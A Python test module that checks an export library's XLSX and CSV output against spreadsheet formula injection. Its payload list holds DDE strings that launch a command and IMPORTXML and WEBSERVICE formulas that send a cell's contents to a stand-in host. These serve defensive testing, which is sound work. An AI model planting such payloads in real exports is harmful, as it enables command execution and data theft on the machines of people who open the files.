"""Texts of any kind in the files that staff open with a spreadsheet, read again by others (S9)."""

from __future__ import annotations

import csv
import io
from collections import Counter
from collections.abc import Sequence
from pathlib import Path

import fastexcel
import openpyxl
import xlsxwriter
from hypothesis import given, seed, settings
from hypothesis import strategies as st

from exports.columns import Column, Kind, Table
from exports.tables.spreadsheet import Spreadsheet
from exports.tables.workbook import Sheet
from tests.cell_rules import CELL, after_an_apostrophe, in_a_cell, in_a_spreadsheet
from tests.export_readers import FORMULA
from tests.hostile import NASTY
from tests.hostile_requests import CALM

LEADS = (
    *"=+-@\t\r\n|%",
    "＝",
    "＋",
    "－",
    "＠",
    "\r\n",
    "'",
    '"',
    ";",
    ",",
    "\ufeff",
    "\u00a0",
    "\0",
)
TAILS = (
    "1+1", "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", 'HYPERLINK("http://x.invalid";"x")',
    "IMPORTXML(CONCAT(\"http://x.invalid?v=\";A1);\"//a\")", 'WEBSERVICE("http://x.invalid/"&A1)',
    "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "{1}", "",
)  # fmt: skip
OWASP = tuple(f"{lead}{tail}" for lead in LEADS for tail in TAILS)
TEXT = Table[str](
    "contributions", "Contributions",
    (Column("text", "Texte", "Un texte.", Kind.TEXT, lambda one: one),
     Column("after", "Après", "Ce qui suit.", Kind.TEXT, lambda _: "fin")),
)  # fmt: skip
letters = st.sampled_from(NASTY) | st.characters()
short = st.text(letters, max_size=80)
drawn_text = st.one_of(
    short,
    st.builds(str.__add__, st.sampled_from(LEADS), short),
    st.builds(lambda a, b, c: a + b + c, st.sampled_from(LEADS), st.sampled_from(TAILS), short),
)  # fmt: skip


def drawn(number: int, count: int) -> list[str]:
    """So many texts from this seed."""
    found: list[str] = []

    @seed(number)
    @settings(CALM, max_examples=count)
    @given(drawn_text)
    def one(text: str) -> None:
        at = len(found)  # one in 25 is about as long as a cell
        found.append(text if at % 25 else (text[:1] or "a") * (32_740 + at % 60) + text)

    one()
    return found


def beyond(text: str) -> bool:
    return len(text.encode("utf-16-le")) // 2 > CELL


def tried(texts: Sequence[str], folder: Path) -> Counter[str]:
    """Written to a workbook and to a CSV, and read again: what was found there, counted."""
    counts = Counter(texts=len(texts), different=len(set(texts)))
    long = sum(beyond(in_a_spreadsheet(one)) for one in texts)
    counts["longer than a cell"] = long

    place, rows = folder / "parole.xlsx", [f"P-{n:06d}" for n in range(len(texts))]
    options = {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
    with xlsxwriter.Workbook(str(place), options) as book:
        sheet = Sheet(book, "Contributions", TEXT)
        for text, reference in zip(texts, rows, strict=True):
            sheet.write(text, reference)
        sheet.finish()
        warned = list(sheet.warned())
    assert [one.count for one in warned] == ([long] if long else []), "cut without a word"
    read = openpyxl.load_workbook(place)["Contributions"]
    kinds = [row[0].data_type for row in read.iter_rows(min_row=2)]
    assert not any(cell.hyperlink for row in read.iter_rows() for cell in row)
    column = fastexcel.read_excel(place).load_sheet("Contributions", dtypes="string").to_polars()
    for kind, text, wrote in zip(kinds, column["Texte"], texts, strict=True):
        assert kind != "f", wrote[:80]
        assert (text or "") == in_a_cell(wrote), (text, wrote[:80])
        counts["xlsx cells"] += 1

    form = Spreadsheet()
    line, told = form.lines(TEXT), 0
    raw = [form.head(TEXT)]
    for text in texts:
        octets, odd = line(text)
        raw.append(octets)
        told += len(odd)
    marked = [after_an_apostrophe(in_a_spreadsheet(one)) for one in texts]
    assert told == sum(map(beyond, marked)), "longer than a cell without a word"
    opened = io.StringIO(b"".join(raw).decode("utf-8-sig"), newline="")
    csv.field_size_limit(10**7)
    cells = list(csv.reader(opened, delimiter=";", strict=True))[1:]
    for row, wrote in zip(cells, marked, strict=True):
        assert row == [wrote, "fin"], wrote[:80]
        assert not FORMULA.match(row[0]), wrote[:80]
        counts["csv cells"] += 1
    return counts
